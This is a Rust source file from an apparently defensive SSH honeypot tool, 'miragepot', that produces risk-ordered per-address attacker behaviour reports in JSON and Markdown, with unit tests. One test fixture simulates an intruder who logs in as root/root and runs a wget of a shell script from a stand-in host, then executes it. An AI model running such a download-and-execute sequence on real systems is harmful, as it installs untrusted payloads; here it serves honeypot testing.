//! The per-address behaviour report that `miragepot report` writes: one JSON document and
//! one Markdown page, both ordered by risk (highest first), then by address.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::net::IpAddr;

use miragepot_event::IpAssessment;
use serde_json::{Value, json};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use super::ProfileBook;
use super::assess::velocity;
use super::state::IpState;

/// Usernames listed per address in the report.
const TOP_USERNAMES: usize = 5;

fn rfc3339(t: OffsetDateTime) -> String {
    t.format(&Rfc3339).unwrap_or_default()
}

/// Every held address with its state and assessment at `now`, highest risk first.
fn rows(book: &ProfileBook, now: OffsetDateTime) -> Vec<(IpAddr, &IpState, IpAssessment)> {
    let mut rows: Vec<_> = book
        .ips()
        .into_iter()
        .filter_map(|ip| Some((ip, book.state(ip)?, book.assess(ip, now)?)))
        .collect();
    rows.sort_by(|a, b| b.2.risk_score.cmp(&a.2.risk_score).then(a.0.cmp(&b.0)));
    rows
}

fn profile_json(ip: IpAddr, s: &IpState, a: &IpAssessment, now: OffsetDateTime) -> Value {
    let v = velocity(s, now);
    let top_users: Vec<Value> = s
        .users
        .top(TOP_USERNAMES)
        .into_iter()
        .map(|(u, n)| json!({ "username": u, "attempts": n }))
        .collect();
    let techniques: Vec<&str> = s.techniques.iter().map(|(t, _)| t.as_str()).collect();
    json!({
        "ip": ip.to_string(),
        "first_seen": rfc3339(s.first_seen),
        "last_seen": rfc3339(s.last_seen),
        "assessment": a,
        "velocity": {
            "attempts_per_min": v.attempts_per_min,
            "median_gap_ms": v.median_gap_ms,
            "first_command_ms": v.first_command_ms,
        },
        "credentials": {
            "attempts": s.attempts,
            "failures": s.failures,
            "successes": s.successes,
            "root_attempts": s.root_attempts,
            "default_attempts": s.default_attempts,
            "distinct_usernames": s.users.distinct(),
            "distinct_passwords": s.passwords.distinct(),
            "distinct_pairs": s.pairs.distinct(),
            "top_usernames": top_users,
        },
        "sessions": {
            "started": s.sessions,
            "ended": s.closed,
            "without_login_attempt": s.noauth_closed,
            "credential_check_only": s.credential_checks,
            "pty": s.pty_sessions,
            "exec": s.exec_sessions,
            "typed": s.typed_sessions,
            "pasted": s.pasted_sessions,
        },
        "activity": {
            "commands": s.commands,
            "downloads": s.downloads,
            "uploads": s.uploads,
            "files_executed": s.executed,
            "direct_tcpip": s.direct_tcpip,
            "honeytokens": s.honeytokens,
            "techniques": techniques,
        },
        "client": {
            "hassh": s.hassh,
            "version": s.client_version,
            "family": s.family,
        },
        "sensors": s.sensors,
    })
}

/// The report as JSON: `{generated_at, addresses, evicted, intents, actions, profiles: [...]}`,
/// each profile holding its `assessment` (an [`IpAssessment`]) and the figures behind it.
pub fn report_json(book: &ProfileBook, now: OffsetDateTime) -> Value {
    let rows = rows(book, now);
    let (intents, actions) = tallies(&rows);
    let profiles: Vec<Value> = rows
        .iter()
        .map(|(ip, s, a)| profile_json(*ip, s, a, now))
        .collect();
    json!({
        "generated_at": rfc3339(now),
        "addresses": rows.len(),
        "evicted": book.evicted(),
        "intents": intents,
        "actions": actions,
        "profiles": profiles,
    })
}

fn tallies(
    rows: &[(IpAddr, &IpState, IpAssessment)],
) -> (BTreeMap<String, u64>, BTreeMap<String, u64>) {
    let mut intents = BTreeMap::new();
    let mut actions = BTreeMap::new();
    for (_, _, a) in rows {
        *intents.entry(a.intent.clone()).or_insert(0u64) += 1;
        *actions.entry(a.action.clone()).or_insert(0u64) += 1;
    }
    (intents, actions)
}

/// A table cell: pipes escaped, line breaks flattened.
fn cell(s: &str) -> String {
    s.replace('|', "\\|").replace(['\n', '\r'], " ")
}

fn triple(v: [u32; 3]) -> String {
    let [a, b, c] = v;
    format!("{a}/{b}/{c}")
}

/// The report as Markdown: a summary of intents and actions, then one table row per
/// address (risk, band, action, intent, sophistication, bot, client family, attempts and
/// sessions per 1 m / 1 h / 24 h, signals).
pub fn report_markdown(book: &ProfileBook, now: OffsetDateTime) -> String {
    let rows = rows(book, now);
    let (intents, actions) = tallies(&rows);
    let mut out = String::new();
    let _ = writeln!(out, "# miragepot behaviour report\n");
    let _ = writeln!(
        out,
        "Generated {}. {} addresses ({} evicted to stay within the bound).\n",
        rfc3339(now),
        rows.len(),
        book.evicted()
    );
    let join = |m: &BTreeMap<String, u64>| {
        m.iter()
            .map(|(k, n)| format!("{k} {n}"))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let _ = writeln!(out, "- intents: {}", join(&intents));
    let _ = writeln!(out, "- actions: {}\n", join(&actions));
    let _ = writeln!(
        out,
        "| address | risk | band | action | intent | soph. | bot | client | attempts 1m/1h/24h | sessions 1m/1h/24h | signals |"
    );
    let _ = writeln!(
        out,
        "| --- | ---: | --- | --- | --- | ---: | --- | --- | --- | --- | --- |"
    );
    for (ip, _, a) in &rows {
        let _ = writeln!(
            out,
            "| {} | {} | {} | {} | {} | {} | {} | {} | {} | {} | {} |",
            ip,
            a.risk_score,
            a.risk_band.as_str(),
            cell(&a.action),
            cell(&a.intent),
            a.sophistication,
            if a.bot { "bot" } else { "human" },
            cell(a.hassh_family.as_deref().unwrap_or("-")),
            triple(a.attempts),
            triple(a.sessions),
            cell(&a.signals.join(", ")),
        );
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use miragepot_event::InputMode;
    use time::Duration;

    use super::super::tests::{attempts_of, auth, book_of, cmd, ip, session, session_at, t0};
    use super::*;

    fn sample_book() -> (ProfileBook, OffsetDateTime) {
        let mut ev = session(
            "203.0.113.7",
            t0(),
            vec![
                auth("root", "root", true),
                cmd("cd /tmp; wget http://198.51.100.3/x.sh", InputMode::Exec),
                cmd("sh x.sh", InputMode::Exec),
            ],
        );
        ev.extend(session_at("198.51.100.4", t0(), attempts_of(8, 2.0)));
        ev.extend(session("2001:db8::9", t0(), vec![]));
        (book_of(&ev), t0() + Duration::minutes(1))
    }

    #[test]
    fn json_shape() {
        let (book, now) = sample_book();
        let j = report_json(&book, now);
        assert_eq!(j["generated_at"], "2025-11-21T13:01:00Z");
        assert_eq!(j["addresses"], 3);
        assert_eq!(j["evicted"], 0);
        let profiles = j["profiles"].as_array().unwrap();
        assert_eq!(profiles.len(), 3);
        // Highest risk first: the one that got in and fetched a payload.
        assert_eq!(profiles[0]["ip"], "203.0.113.7");
        let risks: Vec<u64> = profiles
            .iter()
            .map(|p| p["assessment"]["risk_score"].as_u64().unwrap())
            .collect();
        assert!(risks.windows(2).all(|w| w[0] >= w[1]), "{risks:?}");
        let p = &profiles[0];
        for key in [
            "ip",
            "first_seen",
            "last_seen",
            "assessment",
            "velocity",
            "credentials",
            "sessions",
            "activity",
            "client",
            "sensors",
        ] {
            assert!(p.get(key).is_some(), "missing {key}");
        }
        assert_eq!(p["assessment"]["intent"], "dropper");
        assert_eq!(p["assessment"]["attempts"], serde_json::json!([1, 1, 1]));
        assert_eq!(p["credentials"]["top_usernames"][0]["username"], "root");
        assert_eq!(p["velocity"]["first_command_ms"], 1000);
        assert_eq!(p["activity"]["commands"], 2);
        // The assessment object reads back as an IpAssessment.
        let a: IpAssessment = serde_json::from_value(p["assessment"].clone()).unwrap();
        assert_eq!(Some(a), book.assess(ip("203.0.113.7"), now));
        let brute = profiles.iter().find(|p| p["ip"] == "198.51.100.4").unwrap();
        assert_eq!(brute["velocity"]["attempts_per_min"], 30);
        assert_eq!(brute["velocity"]["median_gap_ms"], 2000);
        assert_eq!(brute["credentials"]["failures"], 8);
        assert_eq!(j["intents"]["scanner"], 1);
        assert_eq!(j["actions"]["block"], 1);
    }

    #[test]
    fn markdown_table() {
        let (book, now) = sample_book();
        let md = report_markdown(&book, now);
        assert!(md.starts_with("# miragepot behaviour report\n"));
        let table: Vec<&str> = md.lines().filter(|l| l.starts_with('|')).collect();
        assert_eq!(table.len(), 2 + 3, "header, rule, one row per address");
        let columns = table[0].matches('|').count();
        assert_eq!(columns, 12);
        for row in &table {
            assert_eq!(row.matches('|').count(), columns, "{row}");
        }
        assert!(table[2].starts_with("| 203.0.113.7 | "), "{}", table[2]);
        let brute = table.iter().find(|r| r.contains("198.51.100.4")).unwrap();
        assert!(brute.contains("| block |"), "{brute}");
        assert!(brute.contains("brute_force"), "{brute}");
        assert!(brute.contains("| 8/8/8 |"), "{brute}");
        assert!(
            md.contains("- actions: block 1, deceive 1, observe 1"),
            "{md}"
        );
        assert_eq!(cell("a|b\nc"), "a\\|b c");
    }
}
